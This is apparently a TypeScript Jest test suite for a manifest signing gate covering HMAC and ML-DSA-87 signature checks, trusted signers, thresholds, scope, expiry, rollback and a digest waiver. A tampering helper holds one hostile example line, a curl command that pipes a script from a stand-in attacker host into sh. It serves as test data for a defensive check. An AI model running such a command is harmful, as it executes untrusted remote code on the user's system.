/**
 * The gate (`decide`, `evaluateSignatures`, `checkScope`) on real signed documents: real ML-DSA-87
 * identities from fixed seeds, real HMAC keys, signatures made by `signDocument`. Nothing is mocked;
 * every "invalid" here is a real signature that does not verify.
 */
import { beforeAll, describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import { seedOf } from '../../../__fixtures__/keys.js'
import { validDoc } from '../../../__fixtures__/manifest.js'
import { manifestDigest } from '../../../src/core/manifest/canonical.js'
import type { MldsaSignature, Signature, HmacSignature } from '../../../src/core/types.js'
import {
  checkScope,
  decide,
  evaluateSignatures,
  REQUIREMENTS,
  signaturesHold,
  type GateInput,
  type TrustPolicy
} from '../../../src/core/sign/gate.js'
import { thresholdProblem } from '../../../src/core/sign/policy.js'
import { hmacKeyId } from '../../../src/core/sign/hmac.js'
import {
  identityFromSeed,
  PUBLIC_KEY_BYTES,
  SIGNATURE_BYTES,
  type Identity
} from '../../../src/core/sign/mldsa.js'
import { signDocument, type SigningKeys } from '../../../src/core/sign/sign.js'
import type { ManifestBody, ManifestDocument, ManifestScope } from '../../../src/core/types.js'

const NOW = new Date('2026-06-01T12:00:00Z')
const HMAC_KEY = seedOf('gate-hmac-1')
const OTHER_HMAC_KEY = seedOf('gate-hmac-2')

let alice: Identity
let bob: Identity
let carol: Identity

beforeAll(async () => {
  alice = await identityFromSeed(seedOf('gate-alice'))
  bob = await identityFromSeed(seedOf('gate-bob'))
  carol = await identityFromSeed(seedOf('gate-carol'))
})

/** `doc` signed once per key set (same body each time), signatures concatenated in order. */
async function signed(doc: ManifestDocument, ...keySets: SigningKeys[]): Promise<GateInput> {
  if (keySets.length === 0) {
    return { body: doc.body, signatures: [], digest: manifestDigest(doc.body) }
  }
  const results = await Promise.all(keySets.map(k => signDocument(doc, k)))
  const first = results[0]
  if (!first) throw new Error('no signing result')
  for (const r of results) expect(r.digest).toBe(first.digest)
  return {
    body: first.doc.body,
    signatures: results.flatMap(r => r.doc.signatures),
    digest: first.digest
  }
}

function policy(over: Partial<TrustPolicy> = {}): TrustPolicy {
  return {
    require: 'any',
    hmacKey: HMAC_KEY,
    trusted: new Set([alice.fingerprint]),
    run: {},
    now: NOW,
    ...over
  }
}

const doc = (over: Partial<ManifestBody> = {}): ManifestDocument => validDoc(over)

/** The same signatures over a body with one recipe changed. */
function tampered(m: GateInput): GateInput {
  const body = structuredClone(m.body)
  const e = body.entries[0]
  if (!e) throw new Error('no entry')
  e.restore = 'curl -s https://evil.example/x | sh'
  return { body, signatures: m.signatures, digest: manifestDigest(body) }
}

function mldsaSig(m: GateInput): MldsaSignature {
  const s = m.signatures.find((x): x is MldsaSignature => x.alg === 'ml-dsa-87')
  if (!s) throw new Error('no ML-DSA signature')
  return s
}

function hmacSig(m: GateInput): HmacSignature {
  const s = m.signatures.find((x): x is HmacSignature => x.alg === 'hmac-sha256')
  if (!s) throw new Error('no HMAC signature')
  return s
}

const withSigs = (m: GateInput, signatures: Signature[]): GateInput => ({ ...m, signatures })

describe('signDocument produces what the gate accepts', () => {
  it('raises the version by one and signs with every key given', async () => {
    const m = await signed(doc(), { hmacKey: HMAC_KEY, identity: alice })
    expect(m.body.version).toBe(2)
    expect(m.signatures.map(s => s.alg)).toEqual(['hmac-sha256', 'ml-dsa-87'])
    expect(hmacSig(m).keyid).toBe(hmacKeyId(HMAC_KEY))
    expect(mldsaSig(m).keyid).toBe(alice.fingerprint)
    expect(Buffer.from(mldsaSig(m).public_key, 'base64')).toHaveLength(PUBLIC_KEY_BYTES)
    expect(Buffer.from(mldsaSig(m).sig, 'base64')).toHaveLength(SIGNATURE_BYTES)
    expect(m.digest).toBe(
      createHash('sha256')
        .update(JSON.stringify(canonicalOrder(m.body)))
        .digest('hex')
    )
    const states = await evaluateSignatures(m, policy())
    expect(states).toEqual([
      { alg: 'hmac-sha256', keyid: hmacKeyId(HMAC_KEY), state: 'valid' },
      {
        alg: 'ml-dsa-87',
        keyid: alice.fingerprint,
        fingerprint: alice.fingerprint,
        state: 'valid'
      }
    ])
  })

  it('an unsigned document has no signature states', async () => {
    expect(await evaluateSignatures(await signed(doc()), policy())).toEqual([])
  })

  it('a changed body invalidates both kinds of signature', async () => {
    const m = tampered(await signed(doc(), { hmacKey: HMAC_KEY, identity: alice }))
    const states = await evaluateSignatures(m, policy())
    expect(states.map(s => s.state)).toEqual(['invalid', 'invalid'])
    const d = await decide(m, policy())
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('HMAC: invalid')
    expect(d.reason).not.toContain('another key')
  })
})

/** Plain recursive key sort: for these ASCII-only bodies it equals RFC 8785 output. */
function canonicalOrder(v: unknown): unknown {
  if (Array.isArray(v)) return v.map(canonicalOrder)
  if (v && typeof v === 'object') {
    const src = v as Record<string, unknown>
    return Object.fromEntries(
      Object.keys(src)
        .sort()
        .map(k => [k, canonicalOrder(src[k])])
    )
  }
  return v
}

describe('require modes', () => {
  let hmacOnly: GateInput
  let mldsaOnly: GateInput
  let bothKinds: GateInput
  let unsigned: GateInput
  let bothUntrusted: GateInput

  beforeAll(async () => {
    hmacOnly = await signed(doc(), { hmacKey: HMAC_KEY })
    mldsaOnly = await signed(doc(), { identity: alice })
    bothKinds = await signed(doc(), { hmacKey: HMAC_KEY, identity: alice })
    unsigned = await signed(doc())
    bothUntrusted = await signed(doc(), { hmacKey: HMAC_KEY, identity: bob })
  })

  it('any: a valid HMAC alone is enough', async () => {
    const d = await decide(hmacOnly, policy({ require: 'any' }))
    expect(d).toMatchObject({ allowed: true, reason: 'signed: HMAC', warnings: [] })
  })

  it('any: a trusted ML-DSA signature alone is enough', async () => {
    const d = await decide(mldsaOnly, policy({ require: 'any' }))
    expect(d).toMatchObject({ allowed: true, reason: 'signed: 1 trusted ML-DSA signer(s)' })
  })

  it('any: an unsigned manifest is refused', async () => {
    const d = await decide(unsigned, policy({ require: 'any' }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toBe(
      'manifest is unsigned; a valid HMAC or a trusted ML-DSA signature required'
    )
  })

  it('any: an untrusted ML-DSA signer alone is refused', async () => {
    const m = await signed(doc(), { identity: bob })
    const d = await decide(m, policy({ require: 'any' }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('untrusted signer')
  })

  it('hmac: allowed with a valid HMAC, refused with only a trusted ML-DSA signature', async () => {
    expect((await decide(hmacOnly, policy({ require: 'hmac' }))).allowed).toBe(true)
    expect((await decide(bothUntrusted, policy({ require: 'hmac' }))).allowed).toBe(true)
    const d = await decide(mldsaOnly, policy({ require: 'hmac' }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('a valid HMAC signature required')
  })

  it('mldsa: allowed with a trusted signer, refused with only an HMAC', async () => {
    expect((await decide(mldsaOnly, policy({ require: 'mldsa' }))).allowed).toBe(true)
    const d = await decide(hmacOnly, policy({ require: 'mldsa' }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('a trusted ML-DSA signature required')
    const u = await decide(bothUntrusted, policy({ require: 'mldsa' }))
    expect(u.allowed).toBe(false)
    expect(u.reason).toContain(`ML-DSA ${bob.fingerprint.slice(0, 16)}: untrusted signer`)
  })

  it('both: allowed only when a valid HMAC and a trusted ML-DSA signature are present', async () => {
    const d = await decide(bothKinds, policy({ require: 'both' }))
    expect(d).toMatchObject({
      allowed: true,
      reason: 'signed: HMAC and 1 trusted ML-DSA signer(s)'
    })
    for (const m of [hmacOnly, mldsaOnly, bothUntrusted, unsigned]) {
      const r = await decide(m, policy({ require: 'both' }))
      expect(r.allowed).toBe(false)
      expect(r.reason).toContain('a valid HMAC and a trusted ML-DSA signature required')
    }
  })

  it('both: refused when the HMAC was made with another key', async () => {
    const d = await decide(bothKinds, policy({ require: 'both', hmacKey: OTHER_HMAC_KEY }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('HMAC: made with another key')
  })
})

describe('HMAC key availability', () => {
  it('no HMAC key on the run: the HMAC signature is "no-key", never "valid"', async () => {
    const m = await signed(doc(), { hmacKey: HMAC_KEY, identity: alice })
    const states = await evaluateSignatures(m, policy({ hmacKey: undefined }))
    expect(states[0]).toEqual({ alg: 'hmac-sha256', keyid: hmacKeyId(HMAC_KEY), state: 'no-key' })
    expect(states[1]?.state).toBe('valid')

    const d = await decide(m, policy({ require: 'hmac', hmacKey: undefined }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('HMAC: no HMAC key on this run')
    // 'any' still passes on the trusted ML-DSA signature.
    expect((await decide(m, policy({ require: 'any', hmacKey: undefined }))).allowed).toBe(true)
  })

  it('an HMAC made with another key cannot be checked here: "other-key", never "valid" or "invalid"', async () => {
    const m = await signed(doc(), { hmacKey: OTHER_HMAC_KEY })
    const states = await evaluateSignatures(m, policy())
    expect(states).toEqual([
      { alg: 'hmac-sha256', keyid: hmacKeyId(OTHER_HMAC_KEY), state: 'other-key' }
    ])
    const d = await decide(m, policy())
    expect(d.allowed).toBe(false)
    expect(d.reason).toBe(
      'HMAC: made with another key, cannot be checked here; a valid HMAC or a trusted ML-DSA signature required'
    )
  })

  it('an HMAC claiming this run\'s key id is checked with this key: a forgery is "invalid"', async () => {
    const m = await signed(doc(), { hmacKey: OTHER_HMAC_KEY })
    const forged = {
      ...m,
      signatures: m.signatures.map(s => ({ ...s, keyid: hmacKeyId(HMAC_KEY) }))
    }
    expect((await evaluateSignatures(forged, policy())).map(s => s.state)).toEqual(['invalid'])
    expect((await decide(forged, policy())).allowed).toBe(false)
  })
})

describe('ML-DSA trust', () => {
  it('a valid signature by an untrusted signer is "untrusted" with its fingerprint', async () => {
    const m = await signed(doc(), { identity: bob })
    const states = await evaluateSignatures(m, policy())
    expect(states).toEqual([
      { alg: 'ml-dsa-87', keyid: bob.fingerprint, fingerprint: bob.fingerprint, state: 'untrusted' }
    ])
    // Trusting bob turns the same signature valid.
    const trusted = await evaluateSignatures(m, policy({ trusted: new Set([bob.fingerprint]) }))
    expect(trusted[0]?.state).toBe('valid')
  })

  it('the fingerprint is recomputed from the key even when keyid names a trusted signer', async () => {
    const byBob = await signed(doc(), { identity: bob })
    const lying = withSigs(byBob, [{ ...mldsaSig(byBob), keyid: alice.fingerprint }])
    const states = await evaluateSignatures(lying, policy())
    expect(states).toEqual([
      {
        alg: 'ml-dsa-87',
        keyid: alice.fingerprint,
        fingerprint: bob.fingerprint,
        state: 'untrusted'
      }
    ])
    const d = await decide(lying, policy({ require: 'mldsa' }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain(bob.fingerprint.slice(0, 16))
  })

  it('a trusted signer whose keyid lies is still recognised by its key', async () => {
    const byAlice = await signed(doc(), { identity: alice })
    const lying = withSigs(byAlice, [{ ...mldsaSig(byAlice), keyid: bob.fingerprint }])
    const states = await evaluateSignatures(
      lying,
      policy({ trusted: new Set([alice.fingerprint]) })
    )
    expect(states[0]).toMatchObject({ fingerprint: alice.fingerprint, state: 'valid' })
  })

  it("a trusted signer's public key swapped in beside another signer's signature is invalid", async () => {
    const byBob = await signed(doc(), { identity: bob })
    const byAlice = await signed(doc(), { identity: alice })
    const swapped = withSigs(byBob, [
      { ...mldsaSig(byBob), public_key: mldsaSig(byAlice).public_key, keyid: alice.fingerprint }
    ])
    const states = await evaluateSignatures(swapped, policy())
    expect(states[0]).toMatchObject({ fingerprint: alice.fingerprint, state: 'invalid' })
    expect((await decide(swapped, policy())).allowed).toBe(false)
  })
})

describe('malformed signatures are invalid and never throw', () => {
  let m: GateInput
  beforeAll(async () => {
    m = await signed(doc(), { hmacKey: HMAC_KEY, identity: alice })
  })

  const mldsaCases: [string, (s: MldsaSignature) => MldsaSignature][] = [
    ['signature not base64', s => ({ ...s, sig: '!!!not base64!!!' })],
    ['signature empty', s => ({ ...s, sig: '' })],
    [
      'signature one byte short',
      s => ({ ...s, sig: Buffer.from(s.sig, 'base64').subarray(1).toString('base64') })
    ],
    [
      'signature one byte long',
      s => ({
        ...s,
        sig: Buffer.concat([Buffer.from(s.sig, 'base64'), Buffer.from([0])]).toString('base64')
      })
    ],
    [
      'signature bytes flipped (right length)',
      s => {
        const b = Buffer.from(s.sig, 'base64')
        b[100] = (b[100] ?? 0) ^ 0x01
        return { ...s, sig: b.toString('base64') }
      }
    ],
    [
      'signature all zeros (right length)',
      s => ({ ...s, sig: Buffer.alloc(4627).toString('base64') })
    ],
    ['public key not base64', s => ({ ...s, public_key: 'ä'.repeat(3456) })],
    [
      'public key short',
      s => ({
        ...s,
        public_key: Buffer.from(s.public_key, 'base64').subarray(0, 2591).toString('base64')
      })
    ],
    [
      'public key all zeros (right length)',
      s => ({ ...s, public_key: Buffer.alloc(PUBLIC_KEY_BYTES).toString('base64') })
    ],
    ['base64 with inner padding', s => ({ ...s, sig: `AAAA=${s.sig.slice(5)}` })]
  ]

  it.each(mldsaCases)('ML-DSA: %s', async (_name, spoil) => {
    const bad = withSigs(m, [spoil(mldsaSig(m))])
    const states = await evaluateSignatures(bad, policy())
    expect(states).toHaveLength(1)
    expect(states[0]?.state).toBe('invalid')
    const d = await decide(bad, policy({ require: 'mldsa' }))
    expect(d.allowed).toBe(false)
  })

  const hmacCases: [string, (s: HmacSignature) => HmacSignature][] = [
    ['not hex', s => ({ ...s, sig: 'z'.repeat(64) })],
    ['upper-case hex', s => ({ ...s, sig: s.sig.toUpperCase() })],
    ['63 digits', s => ({ ...s, sig: s.sig.slice(1) })],
    ['65 digits', s => ({ ...s, sig: `${s.sig}0` })],
    ['empty', s => ({ ...s, sig: '' })],
    ['base64 instead of hex', s => ({ ...s, sig: Buffer.from(s.sig, 'hex').toString('base64') })]
  ]

  it.each(hmacCases)('HMAC: %s', async (_name, spoil) => {
    const bad = withSigs(m, [spoil(hmacSig(m))])
    const states = await evaluateSignatures(bad, policy())
    expect(states).toEqual([{ alg: 'hmac-sha256', keyid: hmacKeyId(HMAC_KEY), state: 'invalid' }])
    expect((await decide(bad, policy({ require: 'hmac' }))).allowed).toBe(false)
  })
})

describe('threshold: distinct trusted signers', () => {
  const trustedAB = (): Set<string> => new Set([alice.fingerprint, bob.fingerprint])

  it('two distinct trusted signers meet a threshold of 2', async () => {
    const m = await signed(doc(), { identity: alice }, { identity: bob })
    const d = await decide(m, policy({ require: 'mldsa', threshold: 2, trusted: trustedAB() }))
    expect(d).toMatchObject({ allowed: true, reason: 'signed: 2 trusted ML-DSA signer(s)' })
  })

  it('two signatures by the same key count once', async () => {
    const m = await signed(doc(), { identity: alice }, { identity: alice })
    expect(m.signatures).toHaveLength(2)
    const states = await evaluateSignatures(m, policy({ trusted: trustedAB() }))
    expect(states.map(s => s.state)).toEqual(['valid', 'valid'])
    const d = await decide(m, policy({ require: 'mldsa', threshold: 2, trusted: trustedAB() }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('2 distinct trusted ML-DSA signers required')
  })

  it('a second signer that is not trusted does not count', async () => {
    const m = await signed(doc(), { identity: alice }, { identity: carol })
    const d = await decide(m, policy({ require: 'mldsa', threshold: 2, trusted: trustedAB() }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('untrusted signer')
  })

  it('a lying keyid cannot make one signer count twice', async () => {
    const m = await signed(doc(), { identity: alice }, { identity: alice })
    const [s1, s2] = m.signatures as MldsaSignature[]
    if (!s1 || !s2) throw new Error('two signatures expected')
    const lying = withSigs(m, [s1, { ...s2, keyid: bob.fingerprint }])
    const d = await decide(lying, policy({ require: 'mldsa', threshold: 2, trusted: trustedAB() }))
    expect(d.allowed).toBe(false)
  })

  it('threshold 2 with require both needs the HMAC as well', async () => {
    const m = await signed(doc(), { hmacKey: HMAC_KEY, identity: alice }, { identity: bob })
    const ok = await decide(m, policy({ require: 'both', threshold: 2, trusted: trustedAB() }))
    expect(ok).toMatchObject({
      allowed: true,
      reason: 'signed: HMAC and 2 trusted ML-DSA signer(s)'
    })
    const no = await decide(
      m,
      policy({ require: 'both', threshold: 2, trusted: trustedAB(), hmacKey: OTHER_HMAC_KEY })
    )
    expect(no.allowed).toBe(false)
  })

  it('a threshold above 1 is meaningful only where ML-DSA must meet it (mldsa, both)', () => {
    for (const r of REQUIREMENTS)
      for (const t of [undefined, 1])
        expect([r, t, thresholdProblem(r, t)]).toEqual([r, t, undefined])
    expect(thresholdProblem('mldsa', 2)).toBeUndefined()
    expect(thresholdProblem('both', 16)).toBeUndefined()
    expect(thresholdProblem('any', 2)).toBe(
      'threshold 2 counts distinct trusted ML-DSA signers, but one HMAC signature alone meets require any: use require mldsa or both'
    )
    expect(thresholdProblem('hmac', 3)).toBe(
      'threshold 3 counts distinct trusted ML-DSA signers, but require hmac asks for no ML-DSA signature: use require mldsa or both'
    )
  })
})

describe('signaturesHold: the signature half alone', () => {
  it('refuses an unsigned manifest before its scope or expiry is read, quoting neither', async () => {
    const SCOPE = 'secret-value/x'
    const m = await signed(doc({ scope: { repository: SCOPE }, expires: '2001-01-01T00:00:00Z' }))
    const d = await signaturesHold(m, policy())
    expect(d.allowed).toBe(false)
    expect(d.reason).toBe(
      'manifest is unsigned; a valid HMAC or a trusted ML-DSA signature required'
    )
    expect((await decide(m, policy())).reason).toContain('expired')
  })

  it('lets a trusted signature through, leaving scope and expiry to decide()', async () => {
    const m = await signed(doc({ scope: { repository: 'someone/else' } }), { identity: alice })
    expect((await signaturesHold(m, policy())).allowed).toBe(true)
    expect((await decide(m, policy())).reason).toContain('scoped to repository someone/else')
  })

  it('names an undecodable ML-DSA key without its document keyid', async () => {
    const m = await signed(doc(), { identity: alice })
    const broken = {
      ...m,
      signatures: [{ ...mldsaSig(m), keyid: 'secret-in-keyid', public_key: 'AAAA' }]
    }
    const d = await signaturesHold(broken, policy())
    expect(d.reason).toContain('ML-DSA (malformed key): invalid')
    expect(d.reason).not.toContain('secret')
  })
})

describe('expiry', () => {
  const EXPIRES = '2026-06-01T12:00:00Z'

  it('expires == now is refused', async () => {
    const m = await signed(doc({ expires: EXPIRES }), { hmacKey: HMAC_KEY, identity: alice })
    const d = await decide(m, policy({ now: new Date(EXPIRES) }))
    expect(d).toEqual({
      allowed: false,
      reason: `manifest expired at ${EXPIRES}`,
      signatures: [],
      warnings: []
    })
  })

  it('one second before expiry is accepted, one second after is refused', async () => {
    const m = await signed(doc({ expires: EXPIRES }), { hmacKey: HMAC_KEY, identity: alice })
    const t = Date.parse(EXPIRES)
    expect((await decide(m, policy({ now: new Date(t - 1000) }))).allowed).toBe(true)
    expect((await decide(m, policy({ now: new Date(t + 1000) }))).allowed).toBe(false)
  })

  it('expires one second later than now is accepted (fractional seconds too)', async () => {
    const m = await signed(doc({ expires: '2026-06-01T12:00:01.000Z' }), { hmacKey: HMAC_KEY })
    expect((await decide(m, policy({ now: NOW }))).allowed).toBe(true)
  })
})

describe('checkScope', () => {
  const body = (scope: ManifestScope): ManifestBody => doc({ scope }).body

  it('repository: matches case-insensitively', () => {
    const b = body({ repository: 'Acme/App' })
    expect(checkScope(b, { repository: 'acme/app' })).toBeUndefined()
    expect(checkScope(b, { repository: 'ACME/APP' })).toBeUndefined()
  })

  it('repository: another repository is refused', () => {
    expect(checkScope(body({ repository: 'acme/app' }), { repository: 'acme/app2' })).toBe(
      'manifest is scoped to repository acme/app, this run is acme/app2'
    )
  })

  it('repository: an unset GITHUB_REPOSITORY is refused when scoped', () => {
    const why = checkScope(body({ repository: 'acme/app' }), {})
    expect(why).toContain('GITHUB_REPOSITORY unset')
    expect(checkScope(body({ repository: 'acme/app' }), { repository: '' })).toBeDefined()
  })

  it('an unscoped manifest runs anywhere', () => {
    expect(checkScope(doc().body, {})).toBeUndefined()
    expect(checkScope(doc().body, { repository: 'x/y', ref: 'refs/heads/z' })).toBeUndefined()
  })

  it('ref: refs/heads/* matches one path segment only', () => {
    const b = body({ ref: 'refs/heads/*' })
    expect(checkScope(b, { ref: 'refs/heads/main' })).toBeUndefined()
    expect(checkScope(b, { ref: 'refs/heads/a/b' })).toContain('scoped to ref refs/heads/*')
    expect(checkScope(b, { ref: 'refs/tags/v1' })).toBeDefined()
    expect(checkScope(b, {})).toContain('GITHUB_REF unset')
  })

  it('ref: refs/heads/** matches nested branch names', () => {
    const b = body({ ref: 'refs/heads/**' })
    expect(checkScope(b, { ref: 'refs/heads/main' })).toBeUndefined()
    expect(checkScope(b, { ref: 'refs/heads/a/b' })).toBeUndefined()
    expect(checkScope(b, { ref: 'refs/pull/1/merge' })).toBeDefined()
  })

  it('ref: an exact ref matches only itself', () => {
    const b = body({ ref: 'refs/heads/main' })
    expect(checkScope(b, { ref: 'refs/heads/main' })).toBeUndefined()
    expect(checkScope(b, { ref: 'refs/heads/mainx' })).toBeDefined()
  })

  it('manifest_path: must equal the path the manifest was read from', () => {
    const b = body({ manifest_path: '.swr/manifest.json' })
    expect(checkScope(b, { manifestPath: '.swr/manifest.json' })).toBeUndefined()
    expect(checkScope(b, { manifestPath: 'other/.swr/manifest.json' })).toBe(
      'manifest is scoped to path .swr/manifest.json, it was read from other/.swr/manifest.json'
    )
    expect(checkScope(b, {})).toContain('outside the workspace')
  })

  it('decide refuses a validly signed manifest out of scope, before looking at signatures', async () => {
    const m = await signed(doc({ scope: { repository: 'acme/app', ref: 'refs/heads/*' } }), {
      hmacKey: HMAC_KEY,
      identity: alice
    })
    const inScope = { repository: 'acme/app', ref: 'refs/heads/main' }
    expect((await decide(m, policy({ run: inScope }))).allowed).toBe(true)
    const out = await decide(m, policy({ run: { ...inScope, ref: 'refs/heads/a/b' } }))
    expect(out).toMatchObject({ allowed: false, signatures: [] })
    expect(out.reason).toContain('scoped to ref')
    expect((await decide(m, policy({ run: {} }))).allowed).toBe(false)
  })
})

describe('rollback', () => {
  let m: GateInput // version 2
  beforeAll(async () => {
    m = await signed(doc(), { hmacKey: HMAC_KEY, identity: alice })
  })

  it('minVersion: a version below the floor is refused, at the floor accepted', async () => {
    expect(m.body.version).toBe(2)
    const d = await decide(m, policy({ minVersion: 3 }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toBe(
      'manifest version 2 is below the floor 3 (a rollback to an older manifest?)'
    )
    expect((await decide(m, policy({ minVersion: 2 }))).allowed).toBe(true)
  })

  it('a remembered newer version refuses an older one', async () => {
    const d = await decide(m, policy({ remembered: { version: 3, digest: 'a'.repeat(64) } }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('older than version 3 already accepted here')
  })

  it('the same version with another digest is refused (a fork)', async () => {
    const d = await decide(m, policy({ remembered: { version: 2, digest: 'b'.repeat(64) } }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('accepted here with another digest')
  })

  it('the same version with the same digest is allowed; an older memory does not matter', async () => {
    expect(
      (await decide(m, policy({ remembered: { version: 2, digest: m.digest } }))).allowed
    ).toBe(true)
    const older = { version: 1, digest: 'c'.repeat(64) }
    expect((await decide(m, policy({ remembered: older }))).allowed).toBe(true)
  })
})

describe('waiveDigest waives only the signature requirement', () => {
  it('allows an unsigned manifest for exactly its digest, with a warning naming it', async () => {
    const m = await signed(doc())
    const d = await decide(m, policy({ require: 'both', waiveDigest: m.digest }))
    expect(d.allowed).toBe(true)
    expect(d.reason).toBe('signature requirement waived for this exact digest')
    expect(d.warnings).toEqual([
      `signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`
    ])
    // Case does not matter.
    const upper = await decide(m, policy({ waiveDigest: m.digest.toUpperCase() }))
    expect(upper.allowed).toBe(true)
  })

  it('still reports the signature states of a signed manifest', async () => {
    const m = tampered(await signed(doc(), { hmacKey: HMAC_KEY, identity: alice }))
    const d = await decide(m, policy({ waiveDigest: m.digest }))
    expect(d.allowed).toBe(true)
    expect(d.signatures.map(s => s.state)).toEqual(['invalid', 'invalid'])
  })

  it('a wrong digest is refused', async () => {
    const m = await signed(doc())
    const other = await signed(doc({ created: '2025-01-02T00:00:00Z' }))
    const d = await decide(m, policy({ waiveDigest: other.digest }))
    expect(d.allowed).toBe(false)
    expect(d.reason).toContain('names another digest')
    expect(d.warnings).toEqual([])
  })

  it('expiry, scope and rollback still apply', async () => {
    const expired = await signed(doc({ expires: '2026-01-01T00:00:00Z' }))
    const e = await decide(expired, policy({ waiveDigest: expired.digest }))
    expect(e).toMatchObject({ allowed: false, reason: 'manifest expired at 2026-01-01T00:00:00Z' })

    const scoped = await signed(doc({ scope: { repository: 'acme/app' } }))
    const s = await decide(scoped, policy({ waiveDigest: scoped.digest }))
    expect(s.allowed).toBe(false)
    expect(s.reason).toContain('scoped to repository acme/app')

    const m = await signed(doc())
    const r = await decide(m, policy({ waiveDigest: m.digest, minVersion: 5 }))
    expect(r.allowed).toBe(false)
    expect(r.reason).toContain('below the floor 5')
  })
})
